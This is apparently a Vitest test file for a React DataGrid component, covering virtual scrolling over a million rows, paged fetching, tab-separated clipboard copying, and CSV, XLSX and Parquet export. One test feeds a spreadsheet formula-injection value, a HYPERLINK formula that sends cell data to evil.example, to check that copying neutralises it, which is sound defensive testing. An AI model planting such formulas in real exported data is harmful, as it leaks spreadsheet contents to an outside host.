import { act, fireEvent, screen, waitFor, within } from '@testing-library/react';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import { fake, resetFake } from '../../test/fakeApi';
import { renderWithStore } from '../../test/render';
import { DataGrid, MAX_SCROLL_PX, PAGE_SIZE, ROW_HEIGHT, scrollTopFor, scrollWindow, type GridSource } from './DataGrid';

vi.mock('../../api', async () => (await import('../../test/fakeApi')).apiModule());

const MILLION = 1_000_000;
const rowsAt = (offset: number, n: number) =>
  Array.from({ length: n }, (_, i) => [offset + i, `name ${offset + i}`, offset + i === 3 ? null : (offset + i) * 1.5]);

const source: GridSource = {
  ref: 'r1',
  columns: [
    { name: 'id', type: 'BIGINT' },
    { name: 'name', type: 'VARCHAR' },
    { name: 'score', type: 'DOUBLE' },
  ],
  kept: MILLION,
  total: MILLION,
  preview: rowsAt(0, 20),
};

beforeEach(() => {
  resetFake();
  fake.page.mockImplementation(async (_ref: string, offset: number, limit: number) => ({
    offset,
    rows: rowsAt(offset, Math.min(limit, MILLION - offset)),
  }));
});

describe('DataGrid', () => {
  it('renders only the visible rows of a million, paging from Go by ref', async () => {
    renderWithStore(<DataGrid source={source} height={400} />);
    expect(screen.getByTestId('grid-count')).toHaveTextContent('1,000,000 rows');
    // The first page is fetched (the preview is shorter than a page) — never the whole result.
    await waitFor(() => expect(fake.page).toHaveBeenCalledWith('r1', 0, PAGE_SIZE));
    expect(await screen.findByText('name 20')).toBeInTheDocument();
    const rendered = screen.getAllByRole('row').length;
    expect(rendered).toBeLessThan(60);
    expect(screen.getByText('NULL')).toHaveClass('grid__td--null');

    // Scroll to the middle: the page holding row 500,000 is fetched, nothing else far away.
    const scroller = screen.getByTestId('grid');
    fake.page.mockClear();
    await act(async () => {
      scroller.scrollTop = scrollTopFor(MILLION, 500_000, 400 - ROW_HEIGHT);
      fireEvent.scroll(scroller);
    });
    await waitFor(() => expect(fake.page).toHaveBeenCalledWith('r1', 500_000 - (500_000 % PAGE_SIZE), PAGE_SIZE));
    for (const call of fake.page.mock.calls) {
      expect(call[2]).toBeLessThanOrEqual(1000);
      expect(Math.abs((call[1] as number) - 500_000)).toBeLessThan(2 * PAGE_SIZE);
    }
    expect(await screen.findByText('name 500001')).toBeInTheDocument();
  });

  it('keeps the scrolled content short enough to draw precisely, and reaches every row', () => {
    const viewport = 374;
    const top = scrollWindow(MILLION, 0, viewport);
    expect(top).toMatchObject({ topRow: 0, first: 0, blockTop: 0, contentHeight: MAX_SCROLL_PX });
    const bottom = scrollWindow(MILLION, MAX_SCROLL_PX - viewport, viewport);
    expect(bottom.last).toBe(MILLION - 1);
    // The last row ends exactly at the bottom of the content.
    expect(bottom.blockTop + (bottom.last - bottom.first + 1) * ROW_HEIGHT).toBeCloseTo(MAX_SCROLL_PX, 6);
    // Rows are always drawn next to the viewport, never millions of pixels away.
    for (const t of [1, 12_345, 2_000_000, MAX_SCROLL_PX - viewport]) {
      const w = scrollWindow(MILLION, t, viewport);
      expect(Math.abs(w.blockTop - t)).toBeLessThan(20 * ROW_HEIGHT);
    }
    // Small results scroll one pixel per pixel.
    expect(scrollWindow(1000, 260, viewport)).toMatchObject({ topRow: 10, contentHeight: 26_000 });
    expect(scrollTopFor(1000, 10, viewport)).toBe(260);
  });

  it('copies a selected range as tab-separated text', async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    renderWithStore(<DataGrid source={{ ...source, kept: 20, total: 20 }} />);
    fireEvent.mouseDown(screen.getByText('name 1'));
    const row2 = screen.getByText('name 2').closest('[role="row"]') as HTMLElement;
    fireEvent.mouseDown(within(row2).getAllByRole('gridcell')[2]!, { shiftKey: true });
    fireEvent.keyDown(screen.getByTestId('grid'), { key: 'c', ctrlKey: true });
    await waitFor(() => expect(writeText).toHaveBeenCalledWith('name 1\t1.5\nname 2\t3'));
    // The preview covers all 20 rows: no page is fetched.
    expect(fake.page).not.toHaveBeenCalled();
  });

  it('copies a cell a spreadsheet could run as a formula as text, and one with a line break as one cell', async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const preview = [
      [1, '=HYPERLINK("http://evil.example/?"&A1)', 1.5],
      [2, 'ok\n@SUM(A1)', -3],
    ];
    renderWithStore(<DataGrid source={{ ...source, kept: 2, total: 2, preview }} />);
    const rows = screen.getAllByRole('row');
    fireEvent.mouseDown(within(rows[1]!).getAllByRole('gridcell')[1]!);
    fireEvent.mouseDown(within(rows[2]!).getAllByRole('gridcell')[2]!, { shiftKey: true });
    fireEvent.keyDown(screen.getByTestId('grid'), { key: 'c', ctrlKey: true });
    await waitFor(() =>
      expect(writeText).toHaveBeenCalledWith(`"'=HYPERLINK(""http://evil.example/?""&A1)"\t1.5\n"ok\n@SUM(A1)"\t-3`),
    );
  });

  it('exports CSV through the native save dialog', async () => {
    fake.exportCSV.mockResolvedValue('/home/me/result.csv');
    const { store } = renderWithStore(<DataGrid source={source} />);
    fireEvent.click(screen.getByRole('button', { name: /Export CSV/ }));
    await waitFor(() => expect(fake.exportCSV).toHaveBeenCalledWith('r1'));
    await waitFor(() => expect(store.get().notices.map((n) => n.message)).toContain('Saved 1,000,000 rows to /home/me/result.csv'));
  });

  it('says before saving that an export of held rows is short of what the query produced', async () => {
    fake.exportCSV.mockResolvedValue('/home/me/result.csv');
    const { store } = renderWithStore(<DataGrid source={{ ...source, kept: 1000, total: 2059 }} />);
    fireEvent.click(screen.getByRole('button', { name: 'Export CSV (1,000 of 2,059)' }));
    await waitFor(() => expect(store.get().notices.map((n) => n.message)).toContain('Saved 1,000 of 2,059 rows to /home/me/result.csv'));
  });

  it('exports the whole data through exportAll when the grid shows a preview of it', async () => {
    const all = vi.fn().mockResolvedValue({ path: '/home/me/orders.csv', rows: 2059 });
    const { store } = renderWithStore(<DataGrid source={{ ...source, kept: 1000, total: 2059 }} exportAll={all} />);
    fireEvent.click(screen.getByRole('button', { name: 'Export CSV' }));
    await waitFor(() => expect(store.get().notices.map((n) => n.message)).toContain('Saved 2,059 rows to /home/me/orders.csv'));
    expect(fake.exportCSV).not.toHaveBeenCalled();
  });

  it('copies rows it has not paged in yet instead of blanks', async () => {
    const write = vi.fn(async () => undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText: write }, configurable: true });
    // The grid's own fetch of the first page never arrives: the rows are not here.
    fake.page.mockImplementationOnce(() => new Promise(() => undefined));
    renderWithStore(<DataGrid source={{ ...source, preview: [] }} height={400} />);
    const rows = screen.getAllByRole('row');
    fireEvent.mouseDown(within(rows[2]!).getAllByRole('gridcell')[1]!);
    fireEvent.mouseDown(within(rows[4]!).getAllByRole('gridcell')[1]!, { shiftKey: true });
    fireEvent.keyDown(screen.getByTestId('grid'), { key: 'c', ctrlKey: true });
    await waitFor(() => expect(write).toHaveBeenCalledWith('name 1\nname 2\nname 3'));
  });

  it('exports XLSX and Parquet beside CSV', async () => {
    fake.exportResult.mockImplementation(async (_ref, format) => `/home/me/result.${format}`);
    const { store } = renderWithStore(<DataGrid source={source} />);
    fireEvent.click(screen.getByRole('button', { name: 'XLSX' }));
    await waitFor(() => expect(fake.exportResult).toHaveBeenCalledWith('r1', 'xlsx'));
    fireEvent.click(screen.getByRole('button', { name: 'Parquet' }));
    await waitFor(() => expect(fake.exportResult).toHaveBeenCalledWith('r1', 'parquet'));
    await waitFor(() => expect(store.get().notices.map((n) => n.message)).toContain('Saved 1,000,000 rows to /home/me/result.parquet'));
  });

  it('says so when a page cannot be fetched', async () => {
    fake.page.mockRejectedValue({ code: 'not_found', message: 'result r1 expired', hint: 'Run the query again.' });
    renderWithStore(<DataGrid source={{ ...source, preview: [] }} />);
    const grid = screen.getByTestId('grid').parentElement!;
    expect(await within(grid).findByText(/Could not fetch rows: result r1 expired/)).toBeInTheDocument();
  });
});
